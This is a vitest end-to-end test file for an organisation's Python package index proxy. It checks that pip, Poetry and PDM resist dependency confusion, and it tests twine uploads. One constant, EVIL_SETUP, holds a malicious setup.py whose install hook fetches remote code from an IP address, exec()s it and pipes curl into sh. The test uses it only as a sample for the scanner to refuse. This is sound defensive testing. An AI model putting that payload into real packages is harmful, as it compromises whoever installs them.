// The organisation's index with real clients (issue 12): a hosted index (twine uploads), a private
// folder, and a public index (real HTTP server on port 0) that carries a higher version of every
// private name, as a dependency-confusion attacker would publish. Real pip 18, 23 and 24 (pyenv),
// Debian's twine, Poetry and PDM; the real scanner; archives written here (make_dist.py).
// Nothing from the corpus: the refused upload is a small sdist written by this test, never run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { loadConfig } from '../../src/config.js';
import { startServer, type Running } from '../../src/main.js';
import { createToken } from '../../src/auth/tokens.js';
import { findPythons, makeDists, pip } from '../helpers/dists.js';
import { startIndexServer, type TestIndex } from '../helpers/index-server.js';
import { pdmProject, poetryProject, runClient } from '../helpers/client-proxy.js';

const pythons = findPythons();
const PIPS = ['18.1', '23.2.1', '24.2'].filter((v) => pythons.has(v));
if (PIPS.length < 3) console.warn(`!!! org index end-to-end: only pips ${[...pythons.keys()].join(', ')} found; missing ones are skipped`);
const twine = ['/usr/bin/twine'].find((p) => existsSync(p));
if (!twine) console.warn('!!! twine not installed (apt-get install twine): upload end-to-end tests skipped');
const poetry = ['/usr/bin/poetry'].find((p) => existsSync(p));
const pdm = ['/usr/bin/pdm'].find((p) => existsSync(p));

let work: string;
let built: string;
let pub: TestIndex;
let proxy: Running;
let uploadToken: string;

/** A setup.py that downloads and runs code at install time: what the scanner must refuse. Never executed. */
const EVIL_SETUP = `import os, base64, urllib.request
from setuptools import setup
from setuptools.command.install import install
class I(install):
    def run(self):
        data = urllib.request.urlopen("http://45.61.136.7/x").read()
        exec(base64.b64decode(data))
        os.system("curl -s http://45.61.136.7/s | sh")
        install.run(self)
setup(name="acme_evil", version="1.0", packages=["acme_evil"], cmdclass={"install": I})
`;

function twineUpload(files: string[]) {
  const home = mkdtempSync(path.join(work, 'home-'));
  return runClient(
    twine!,
    ['upload', '--non-interactive', '--disable-progress-bar', '--repository-url', `${proxy.url}/-/upload/acme/`, '-u', '__token__', '-p', uploadToken, ...files.map((f) => path.join(built, f))],
    work,
    // Wide, so twine's rich console does not wrap the server's message mid-sentence.
    { PATH: '/usr/bin:/bin', HOME: home, PYTHON_KEYRING_BACKEND: 'keyring.backends.null.Keyring', COLUMNS: '400' },
  ).then((r) => ({ ...r, out: r.out.replace(/\s+/g, ' ') }));
}

/** The version of `dist` pip installed into `target` (from its .dist-info folder). */
function installedVersion(target: string, dist: string): string | undefined {
  const info = readdirSync(target).find((d) => d.startsWith(`${dist}-`) && d.endsWith('.dist-info'));
  return info?.slice(dist.length + 1, -'.dist-info'.length);
}

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), 'pywarden-org-e2e-'));
  const corp = path.join(work, 'corp');
  makeDists(corp, [{ kind: 'wheel', name: 'corp_utils', version: '1.0' }]);
  const publicDir = path.join(work, 'public');
  // The attacker's copies: higher versions of both private names.
  makeDists(publicDir, [
    { kind: 'wheel', name: 'corp_utils', version: '99.0' },
    { kind: 'wheel', name: 'acme_lib', version: '99.0' },
    { kind: 'wheel', name: 'demo_pkg', version: '1.0' },
  ]);
  pub = await startIndexServer(publicDir);
  pub.projects.set('corp-utils', { files: [{ filename: 'corp_utils-99.0-py3-none-any.whl' }] });
  pub.projects.set('acme-lib', { files: [{ filename: 'acme_lib-99.0-py3-none-any.whl' }] });
  pub.projects.set('demo-pkg', { files: [{ filename: 'demo_pkg-1.0-py3-none-any.whl' }] });
  built = path.join(work, 'built');
  makeDists(built, [
    { kind: 'wheel', name: 'acme_lib', version: '1.0' },
    { kind: 'sdist', name: 'acme_lib', version: '1.0' },
    { kind: 'sdist', name: 'acme_evil', version: '1.0', files: { 'acme_evil/__init__.py': 'VALUE = 1\n', 'setup.py': EVIL_SETUP } },
  ]);
  const upstreams = [
    { name: 'acme', hosted: true },
    { name: 'corp', path: corp, private: true },
    { name: 'pypi', url: pub.url },
  ];
  proxy = await startServer(loadConfig({ env: {}, flags: { host: '127.0.0.1', port: 0, upstreams, data: path.join(work, 'data'), logLevel: 'warn', scanWorkers: 1, pageTtl: '0' } }));
  uploadToken = (await createToken(proxy.deps.reviews!.tokens, 'ci', 'upload', 'test')).token;
});

afterAll(async () => {
  await proxy?.close();
  await pub?.close();
  rmSync(work, { recursive: true, force: true });
});

describe.skipIf(!PIPS.length)('real pip through the organisation index: no dependency confusion', () => {
  for (const version of PIPS) {
    it(`pip ${version} installs the private corp-utils 1.0, not the public 99.0`, async () => {
      const target = mkdtempSync(path.join(work, 'target-'));
      const r = await pip(pythons.get(version)!, ['install', '--no-deps', '--target', target, '--index-url', `${proxy.url}/simple/`, 'corp-utils']);
      expect(r.code, r.out).toBe(0);
      expect(installedVersion(target, 'corp_utils')).toBe('1.0');
    });
  }

  it('pip still installs public projects that no private upstream has', async () => {
    const target = mkdtempSync(path.join(work, 'target-'));
    const r = await pip(pythons.get(PIPS[PIPS.length - 1])!, ['install', '--no-deps', '--target', target, '--index-url', `${proxy.url}/simple/`, 'demo-pkg']);
    expect(r.code, r.out).toBe(0);
    expect(installedVersion(target, 'demo_pkg')).toBe('1.0');
  });
});

describe.skipIf(!twine)('twine upload to the hosted index', () => {
  it('uploads a wheel and an sdist built here; pip then installs the hosted 1.0, never the public 99.0', async () => {
    const up = await twineUpload(['acme_lib-1.0-py3-none-any.whl', 'acme_lib-1.0.tar.gz']);
    expect(up.code, up.out).toBe(0);
    expect((await proxy.deps.org!.listed('acme', 'acme-lib')).map((u) => [u.filename, u.state])).toEqual([
      ['acme_lib-1.0-py3-none-any.whl', 'published'],
      ['acme_lib-1.0.tar.gz', 'published'],
    ]);
    for (const version of PIPS) {
      const target = mkdtempSync(path.join(work, 'target-'));
      const r = await pip(pythons.get(version)!, ['install', '--no-deps', '--only-binary=:all:', '--target', target, '--index-url', `${proxy.url}/simple/`, 'acme-lib']);
      expect(r.code, `pip ${version}: ${r.out}`).toBe(0);
      expect(installedVersion(target, 'acme_lib')).toBe('1.0');
    }
    expect(pub.hits.get('/files/acme_lib-99.0-py3-none-any.whl') ?? 0).toBe(0);
  });

  it('refuses a duplicate upload with a message twine prints', async () => {
    const again = await twineUpload(['acme_lib-1.0-py3-none-any.whl']);
    expect(again.code).not.toBe(0);
    expect(again.out).toMatch(/HTTPError: 400 Bad Request .* File already exists: acme_lib-1\.0-py3-none-any\.whl was uploaded to acme before; a file name is never reused, upload a new version/);
  });

  it('an upload the scanner refuses is never listed, and pip cannot get it', async () => {
    const r = await twineUpload(['acme_evil-1.0.tar.gz']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/HTTPError: 403 Forbidden .* Blocked by policy: malware detected in acme_evil-1\.0\.tar\.gz \(Q-\d+\); it is not listed/);
    const page = (await (await fetch(`${proxy.url}/simple/acme-evil/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as { files: unknown[] };
    expect(page.files).toEqual([]);
    const dest = mkdtempSync(path.join(work, 'dl-'));
    const d = await pip(pythons.get(PIPS[PIPS.length - 1])!, ['download', '--no-deps', '--no-binary=:all:', '-d', dest, '--index-url', `${proxy.url}/simple/`, 'acme-evil']);
    expect(d.code).not.toBe(0);
    expect(readdirSync(dest)).toEqual([]);
  });
});

describe.skipIf(!poetry)('poetry through the organisation index', () => {
  it('locks the private corp-utils 1.0, not the public 99.0', async () => {
    const project = mkdtempSync(path.join(work, 'poetry-'));
    const lock = await poetryProject(poetry!, project, `${proxy.url}/simple/`, 'corp-utils', '3.9')(['lock']);
    expect(lock.code, lock.out).toBe(0);
    expect(readFileSync(path.join(project, 'poetry.lock'), 'utf8')).toMatch(/name = "corp-utils"\nversion = "1\.0"/);
  });
});

describe.skipIf(!pdm)('pdm through the organisation index', () => {
  it('locks the private corp-utils 1.0, not the public 99.0', async () => {
    const project = mkdtempSync(path.join(work, 'pdm-'));
    const lock = await (await pdmProject(pdm!, project, `${proxy.url}/simple/`, 'corp-utils', '3.9'))(['lock']);
    expect(lock.code, lock.out).toBe(0);
    expect(readFileSync(path.join(project, 'pdm.lock'), 'utf8')).toMatch(/name = "corp-utils"\nversion = "1\.0"/);
  });
});
